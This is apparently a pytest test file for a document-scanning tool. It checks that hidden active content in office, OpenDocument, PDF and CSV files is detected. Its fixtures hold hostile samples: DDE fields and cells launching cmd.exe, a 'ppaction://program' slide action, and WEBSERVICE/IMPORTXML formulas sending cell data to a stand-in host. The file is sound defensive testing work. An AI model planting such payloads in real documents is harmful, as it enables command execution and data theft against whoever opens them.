"""What acts or fetches something is found wherever it stands in a file and by whatever name, not only where it usually
stands. Every file goes through the real child process."""

import pytest
from pikepdf import Array, Dictionary, Name, String

from tests.evidence import making as make

WORD_RELS, BOOK_RELS = "word/_rels/document.xml.rels", "xl/_rels/workbook.xml.rels"
SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"
SLIDE = "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"
HERE, SHARE = "http://x.example/a.png", "\\\\host\\x.pdf"


def pointing(form, rels, kind, target, *, mode="", parts=None, **types):
    """An office file in which one relationship of this kind leads to the target."""
    return make.office(form, {rels: make.relationships((kind, target, mode)), **(parts or {})}, **types)


def word_in_a_folder():
    """A document whose main part stands where nobody looks for it, with a field that starts a program."""
    types = (
        f'<?xml version="1.0"?><Types xmlns="{make.TYPES}"><Default Extension="rels" ContentType="application/vnd.'
        f'openxmlformats-package.relationships+xml"/><Override PartName="/word/A/Text.xml" '
        f'ContentType="{make.MAIN["docx"][1]}"/></Types>'
    )
    main = make.field("DDEAUTO c:\\cmd.exe")["word/document.xml"]
    rels = make.relationships(("officeDocument", "word/a/text.xml", ""))
    return make.archive({"[Content_Types].xml": types, "_rels/.rels": rels, "word/a/text.xml": main})


def slide(action):
    sheet = f'<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkMouseOver action="{action}"/></p:sld>'
    return make.office("pptx", {"ppt/slides/s.xml": sheet}, overrides=[("ppt/slides/s.xml", SLIDE)])


def sheet(formula):
    return make.office("xlsx", {"xl/worksheets/sheet1.xml": f"<worksheet><f>{formula}</f></worksheet>"})


def styled(markup):
    """A text document with this in its styles."""
    names = 'xmlns:office="o" xmlns:style="s" xmlns:draw="d" xmlns:text="t" xmlns:svg="g" xmlns:xlink="x"'
    return make.opendocument(
        more={"styles.xml": f"<office:document-styles {names}>{markup}</office:document-styles>"}
    )


def cell(formula):
    body = f'<table:table-cell xmlns:table="c" table:formula="{formula}"/>'
    return make.opendocument("spreadsheet", body=body)


def then(**action):
    """A PDF that goes to a page when it is opened, and then does this."""
    return make.pdf(make.opening(S=Name.GoTo, D=String("a"), Next=Array([Dictionary(**action)])))


HIDING = {
    "a workbook's link under another name": ("external", lambda: pointing(
        "xlsx", BOOK_RELS, "externalLink", "a/b.xml", parts={"xl/a/b.xml": "<externalLink/>"})),
    "a data connection under another name": ("connection", lambda: pointing(
        "xlsx", BOOK_RELS, "connections", "a/b.xml", parts={"xl/a/b.xml": "<connections/>"})),
    "a control under another name": ("activex", lambda: pointing(
        "docx", WORD_RELS, "control", "a.xml", parts={"word/a.xml": "<x/>"})),
    "a field in a part in a folder": ("dde", word_in_a_folder),
    "a page that Word reads in": ("file_inside", lambda: pointing(
        "docx", WORD_RELS, "aFChunk", "a.dat", parts={"word/a.dat": "<html>"}, defaults=[("dat", "text/html")])),
    "rich text that Word reads in": ("file_inside", lambda: pointing(
        "docx", WORD_RELS, "aFChunk", "/a.dat", parts={"a.dat": "{\\rtf1 x}"}, defaults=[("dat", "application/rtf")])),
    "a share with both kinds of slashes": ("external", lambda: pointing(
        "docx", WORD_RELS, "image", "/\\host\\a.png", mode="External")),
    "a program started by pointing at it": ("macro", lambda: slide("ppaction://program")),
    "the same with its letters as numbers": ("macro", lambda: slide("ppaction&#58;//program")),
    "a formula that asks elsewhere": ("external", lambda: sheet("1+_xlfn.WEBSERVICE(A1)")),
    "a background from elsewhere": ("external", lambda: styled(f'<style:background-image xlink:href="{HERE}"/>')),
    "a filling from elsewhere": ("external", lambda: styled(f'<draw:fill-image xlink:href="{HERE}"/>')),
    "bullets from elsewhere": ("external", lambda: styled(f'<text:list-level-style-image xlink:href="{HERE}"/>')),
    "a font from elsewhere": ("external", lambda: styled(f'<svg:font-face-uri xlink:href="{HERE}"/>')),
    "a picture from a share": ("external", lambda: make.opendocument(body='<draw:image xlink:href="/\\host\\a"/>')),
    "a cell that starts a program": ("dde", lambda: cell("of:=DDE(&quot;cmd&quot;;&quot;/c&quot;;&quot;x&quot;)")),
    "a cell that asks elsewhere": ("external", lambda: cell("of:=1+WEBSERVICE(&quot;http://x.example&quot;)")),
    "an address after a page": ("pdf_automatic", lambda: then(S=Name.URI, URI=String("https://x.example"))),
    "another file after a page": ("pdf_automatic", lambda: then(S=Name.GoToR, F=String(SHARE))),
    "a thread in another file": ("pdf_automatic", lambda: make.pdf(make.opening(S=Name.Thread, F=String(SHARE)))),
    "a stream whose bytes are elsewhere": ("external", lambda: make.pdf(make.with_stream(b"", F=String(HERE)))),
    "a pdf in a picture": ("polyglot", lambda: make.jpeg(comment=b"%PDF-1.4 %%EOF")),
    "a pdf after some words": ("polyglot", lambda: b"words\n%PDF-1.4\n%%EOF\n"),
    "a table that asks elsewhere": ("external", lambda: b'a,b\n1,=IF(A1;WEBSERVICE("http://x.example/"&A1))\n'),
    "a table that imports": ("external", lambda: b'"=IMPORTXML(""http://x.example"",A1)",1\nb,2\n'),
}  # fmt: skip


@pytest.mark.parametrize("name", HIDING)
def test_it_is_refused_with_its_reason(name):
    code, make_it = HIDING[name]
    assert make.found_in(make_it()).code == code


FINE = {
    "a document that Word reads in": lambda: pointing(
        "docx", WORD_RELS, "aFChunk", "a.docx", parts={"word/a.docx": make.office("docx")}),
    "a slide that leads to another": lambda: slide("ppaction://hlinksldjump"),
    "words about a function": lambda: "ใช้ WEBSERVICE( ) ดึงข้อมูล\n- IMAGE ( ภาพ )\n".encode(),
    "pages in a circle": lambda: make.pdf(in_a_circle),
}  # fmt: skip


def in_a_circle(document):
    one = document.make_indirect(Dictionary(S=Name.Named, N=Name.NextPage))
    document.pages[0].obj.AA = Dictionary(O=one)
    one.Next = Dictionary(S=Name.Named, N=Name.PrevPage)


@pytest.mark.parametrize("name", FINE)
def test_what_only_looks_like_it_is_taken(name):
    assert make.found_in(FINE[name]()).code == ""
